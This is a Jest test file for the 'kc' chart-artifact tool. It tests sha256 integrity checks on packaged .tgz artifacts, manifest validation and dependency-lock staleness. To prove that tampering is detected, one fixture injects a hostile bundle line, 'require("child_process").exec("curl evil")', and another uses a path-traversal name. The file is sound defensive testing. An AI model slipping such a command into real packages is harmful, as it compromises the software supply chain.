import path from 'node:path';
import { afterAll, describe, expect, test } from '@jest/globals';
import {
  deterministicTgz, lockJson, lockProblems, manifestJson, openArtifact, packArtifact, sha256, verifyDigest, type ArtifactManifest,
} from '../../../src/artifact/index.js';
import { isKcError } from '../../../src/errors/index.js';
import fs from 'node:fs';
import { tempDir } from '../../fixtures/artifacts/helpers.js';

function artifact(overrides: { bundle?: string; deps?: { name: string; version: string; archive: Buffer }[] } = {}) {
  return packArtifact({
    name: 'demo', version: '1.2.3', keywords: ['x'],
    bundleCode: Buffer.from(overrides.bundle ?? 'module.exports = {};'), sourceMap: Buffer.from('{}'),
    valuesSchema: { type: 'object' }, valuesDefaults: {},
    dependencies: (overrides.deps ?? []).map((d) => ({ locked: { name: d.name, version: d.version, range: '^1', repository: 'r', digest: sha256(d.archive) }, archive: d.archive })),
  });
}

/** The archive with some files replaced (manifest kept): what an attacker editing a .tgz produces. */
function tampered(manifest: ArtifactManifest, files: Record<string, string | null>): Buffer {
  const own = files['manifest.json'];
  return deterministicTgz([
    ...(own === null ? [] : [{ path: 'manifest.json', data: Buffer.from(own ?? manifestJson(manifest)) }]),
    ...Object.entries(files).filter(([p]) => p !== 'manifest.json').map(([p, d]) => ({ path: p, data: Buffer.from(d ?? '') })),
  ]);
}

async function errorOf(p: Promise<unknown>): Promise<{ code: string; message: string }> {
  try {
    await p;
  } catch (err) {
    if (isKcError(err)) return { code: err.code, message: err.message };
    throw err;
  }
  throw new Error('no error');
}

describe('artifact integrity', () => {
  test('an intact artifact opens, and its digest is the sha256 of the .tgz', async () => {
    const { archive, manifest } = artifact();
    const opened = await openArtifact(archive, 'demo-1.2.3.tgz');
    expect(opened.manifest).toEqual(JSON.parse(manifestJson(manifest)));
    expect(opened.digest).toBe(sha256(archive));
  });

  test('a bundle changed after packaging is INTEGRITY_MISMATCH', async () => {
    const { manifest } = artifact();
    const e = await errorOf(openArtifact(tampered(manifest, { 'chart.cjs': 'require("child_process").exec("curl evil")', 'chart.cjs.map': '{}' }), 'demo.tgz'));
    expect(e.code).toBe('INTEGRITY_MISMATCH');
    expect(e.message).toMatch(/^demo\.tgz: chart\.cjs has sha256 [0-9a-f]{64}, but its manifest says [0-9a-f]{64}$/);
  });

  test('a dependency archive changed after packaging is INTEGRITY_MISMATCH', async () => {
    const { manifest } = artifact({ deps: [{ name: 'db', version: '1.0.0', archive: Buffer.from('dep') }] });
    const e = await errorOf(openArtifact(tampered(manifest, { 'chart.cjs': 'module.exports = {};', 'chart.cjs.map': '{}', 'charts/db-1.0.0.tgz': 'evil' }), 'demo.tgz'));
    expect(e).toMatchObject({ code: 'INTEGRITY_MISMATCH', message: expect.stringContaining('dependency charts/db-1.0.0.tgz has sha256') });
  });

  test.each([
    ['no manifest', { 'manifest.json': null, 'chart.cjs': 'x' }, 'ARTIFACT_INVALID', 'demo.tgz is not a valid kc chart artifact: it has no manifest.json'],
    ['a manifest that is not JSON', { 'manifest.json': '{', 'chart.cjs': 'x' }, 'ARTIFACT_INVALID', 'manifest.json is not JSON'],
    ['a manifest with a bad name', { 'manifest.json': JSON.stringify({ ...JSON.parse(manifestJson(artifact().manifest)), name: '../x' }) }, 'ARTIFACT_INVALID', 'manifest.json: name: must be a DNS label'],
    ['a newer format', { 'manifest.json': JSON.stringify({ formatVersion: 2 }) }, 'ARTIFACT_INVALID', 'demo.tgz has artifact format 2; this kc reads format 1'],
  ])('%s is refused', async (_name, files, code, message) => {
    const e = await errorOf(openArtifact(tampered(artifact().manifest, files as Record<string, string | null>), 'demo.tgz'));
    expect(e.code).toBe(code);
    expect(e.message).toContain(message);
  });

  test('verifyDigest refuses bytes other than the ones an index promised', () => {
    const { archive } = artifact();
    expect(() => verifyDigest(archive, sha256(archive), 'demo', 'the index')).not.toThrow();
    expect(() => verifyDigest(archive, 'a'.repeat(64), 'demo-1.2.3.tgz from http://127.0.0.1/x', 'the index of repository r')).toThrow(
      expect.objectContaining({ code: 'INTEGRITY_MISMATCH', message: `demo-1.2.3.tgz from http://127.0.0.1/x has sha256 ${sha256(archive)}, but the index of repository r says ${'a'.repeat(64)}` }),
    );
  });
});

describe('dependency lock staleness', () => {
  const t = tempDir();
  afterAll(() => t.remove());
  const dep = Buffer.from('db-archive');
  const locked = { name: 'db', version: '1.4.0', range: '^1.2.0', repository: 'stable', digest: sha256(dep) };
  fs.mkdirSync(path.join(t.dir, 'charts'));
  fs.writeFileSync(path.join(t.dir, 'charts/db-1.4.0.tgz'), dep);
  const lock = JSON.parse(lockJson([locked]));

  test.each([
    ['in sync', [{ name: 'db', version: '^1.2.0', repository: 'stable' }], lock, []],
    ['no deps, no lock', [], undefined, []],
    ['declared but no lock', [{ name: 'db', version: '^1.2.0', repository: 'stable' }], undefined, ['package.json declares db but there is no kc.lock.json']],
    ['range no longer satisfied', [{ name: 'db', version: '^2.0.0', repository: 'stable' }], lock, ['db is locked at 1.4.0, which does not satisfy ^2.0.0']],
    ['range changed', [{ name: 'db', version: '>=1.0.0', repository: 'stable' }], lock, ['db was locked for range ^1.2.0, but package.json now says >=1.0.0']],
    ['repository changed', [{ name: 'db', version: '^1.2.0', repository: 'other' }], lock, ['db is locked from repository stable, but package.json says other']],
    ['new dependency', [{ name: 'db', version: '^1.2.0', repository: 'stable' }, { name: 'cache', version: '*', repository: 'stable' }], lock, ['cache is declared but not locked']],
    ['dependency dropped', [], lock, ['db is locked but package.json no longer declares it']],
  ])('%s', (_name, declared, lockData, problems) => {
    expect(lockProblems(t.dir, declared, lockData)).toEqual(problems);
  });

  test('a missing or altered file in charts/ makes the lock stale', () => {
    const declared = [{ name: 'db', version: '^1.2.0', repository: 'stable' }];
    fs.writeFileSync(path.join(t.dir, 'charts/db-1.4.0.tgz'), 'changed');
    expect(lockProblems(t.dir, declared, lock)).toEqual(['charts/db-1.4.0.tgz does not have the sha256 the lock records']);
    fs.rmSync(path.join(t.dir, 'charts/db-1.4.0.tgz'));
    expect(lockProblems(t.dir, declared, lock)).toEqual(['charts/db-1.4.0.tgz is missing']);
  });

  test('the lock text is sorted and has no timestamps', () => {
    const text = lockJson([{ ...locked, name: 'zeta' }, locked]);
    expect(JSON.parse(text).dependencies.map((d: { name: string }) => d.name)).toEqual(['db', 'zeta']);
    expect(text).toBe(lockJson([locked, { ...locked, name: 'zeta' }]));
  });
});
